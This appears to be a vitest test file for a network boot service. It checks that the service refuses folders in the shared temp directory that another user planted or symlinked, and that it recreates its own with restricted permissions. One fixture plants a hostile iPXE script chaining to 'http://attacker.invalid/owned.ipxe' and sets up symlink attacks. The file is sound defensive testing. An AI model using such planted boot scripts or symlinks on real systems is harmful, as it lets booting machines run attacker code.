// The folders the boot service serves from outside its state folder (nginx's published files, the
// TFTP root) sit at predictable names in the shared temp folder. A local user who gets there first
// (a folder of their own, owned here by `nobody`, or a symlink at the name or at a temp file inside)
// must not have nodes boot their scripts nor make root write through the link: the start is refused,
// naming the path, and nothing of theirs is touched. The service's own leftover (a killed run) is
// made anew; what it serves is readable by nginx's workers' group only.
import { createHash, randomBytes } from 'node:crypto';
import {
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { bootRuntime, startBootService, type DhcpMode } from '../../src/boot/index.js';
import { UserError } from '../../src/errors.js';
import { stateDirFor } from '../../src/state/index.js';
import { httpCall } from '../helpers/http.js';
import { LAB, tempDir } from '../helpers/manifest.js';
import { renderFile } from '../helpers/render.js';

const NOBODY = 65534;
const WWW_DATA_GID = Number(/^www-data:[^:]*:\d+:(\d+):/m.exec(readFileSync('/etc/passwd', 'utf8'))![1]);

describe('boot service folders outside the state folder', () => {
  const { plan, tree } = renderFile(LAB);
  const dir = tempDir('civostack-folders-');
  const state = stateDirFor(join(dir, 'lab.yaml'), 'lab1', join(dir, 'state'));
  const runtime = bootRuntime(state);
  const hy = plan.nodes[0]!.nics[0]!.mac.replaceAll(':', '-');
  const image = randomBytes(4096);
  writeFileSync(join(dir, 'os.raw'), image);
  const start = (dhcp: DhcpMode = 'off') =>
    startBootService({
      plan,
      tree,
      state,
      listen: { host: '127.0.0.1', port: 0 },
      dhcp,
      checkSource: false,
      artifacts: {
        image: {
          path: join(dir, 'os.raw'),
          url: `${plan.bootstrap.url}/images/os.raw`,
          sha256: createHash('sha256').update(image).digest('hex'),
          format: 'raw',
          size: image.length,
          rootPartition: 3,
        },
      },
      onEvent: () => undefined,
    });
  /** The start's error; a start that succeeds is stopped and reported as no error. */
  const refusal = async (dhcp: DhcpMode = 'off'): Promise<unknown> => {
    try {
      const service = await start(dhcp);
      await service.close();
      return undefined;
    } catch (err) {
      return err;
    }
  };
  /** What another user leaves at `path`: a folder they own, with their own script in it. */
  const plant = (path: string): string => {
    mkdirSync(join(path, 'ipxe'), { recursive: true, mode: 0o777 });
    const script = join(path, 'ipxe', `${hy}.ipxe`);
    writeFileSync(script, '#!ipxe\nchain http://attacker.invalid/owned.ipxe\n');
    for (const p of [path, join(path, 'ipxe'), script]) chownSync(p, NOBODY, NOBODY);
    return script;
  };

  afterEach(() => {
    for (const p of [runtime.httpRoot, runtime.tftpRoot]) rmSync(p, { recursive: true, force: true });
  });

  it('refuses a published folder another user made first, and leaves it as it was', async () => {
    const script = plant(runtime.httpRoot);
    const err = await refusal();
    expect(err).toBeInstanceOf(UserError);
    expect((err as UserError).message).toContain(runtime.httpRoot);
    expect((err as UserError).message).toContain(`owned by uid ${NOBODY}`);
    expect((err as UserError).hint).toMatch(/remove it/);
    expect(readFileSync(script, 'utf8')).toContain('attacker.invalid');
    expect(lstatSync(runtime.httpRoot).uid).toBe(NOBODY);
  });

  it('writes through no symlink planted at a temp name in such a folder', async () => {
    const victim = join(dir, 'victim');
    writeFileSync(victim, 'precious\n');
    plant(runtime.httpRoot);
    // The temp name the publisher wrote boot.ipxe through before renaming it into place.
    symlinkSync(victim, join(runtime.httpRoot, 'ipxe', '.boot.ipxe.tmp'));
    expect(await refusal()).toBeInstanceOf(UserError);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
  });

  it('refuses a symlink at the folder name itself, and follows it nowhere', async () => {
    const elsewhere = join(dir, 'elsewhere');
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, runtime.httpRoot);
    const err = await refusal();
    expect(err).toBeInstanceOf(UserError);
    expect((err as UserError).message).toMatch(/a symlink/);
    expect(readlinkSync(runtime.httpRoot)).toBe(elsewhere);
    expect(existsSync(join(elsewhere, 'ipxe'))).toBe(false);
  });

  it('refuses a TFTP folder another user made first, and leaves it as it was', async () => {
    mkdirSync(runtime.tftpRoot, { mode: 0o777 });
    writeFileSync(join(runtime.tftpRoot, 'undionly.kpxe'), 'not ipxe');
    chownSync(runtime.tftpRoot, NOBODY, NOBODY);
    const err = await refusal('proxy');
    expect(err).toBeInstanceOf(UserError);
    expect((err as UserError).message).toContain(runtime.tftpRoot);
    expect(readFileSync(join(runtime.tftpRoot, 'undionly.kpxe'), 'utf8')).toBe('not ipxe');
    // Nothing of this start is left behind either.
    expect(existsSync(runtime.httpRoot)).toBe(false);
  });

  it('makes its own leftover anew, readable by the workers only, and serves from it', async () => {
    // What a run killed outright leaves: root's folder, with a stale file.
    mkdirSync(join(runtime.httpRoot, 'ipxe'), { recursive: true, mode: 0o755 });
    writeFileSync(join(runtime.httpRoot, 'ipxe', 'stale.ipxe'), 'stale');
    const service = await start();
    try {
      const st = statSync(runtime.httpRoot);
      expect(st.uid).toBe(0);
      expect(st.gid).toBe(WWW_DATA_GID);
      expect(st.mode & 0o777).toBe(0o750);
      expect(existsSync(join(runtime.httpRoot, 'ipxe', 'stale.ipxe'))).toBe(false);
      const r = await httpCall(`${service.url}/ipxe/boot.ipxe`);
      expect(r.status).toBe(200);
      expect(r.body.toString()).toBe(tree.get('boot/ipxe/boot.ipxe')!.content);
      const img = await httpCall(`${service.url}/images/os.raw`);
      expect(img.body.equals(image)).toBe(true);
    } finally {
      await service.close();
    }
    expect(existsSync(runtime.httpRoot)).toBe(false);
  });
});
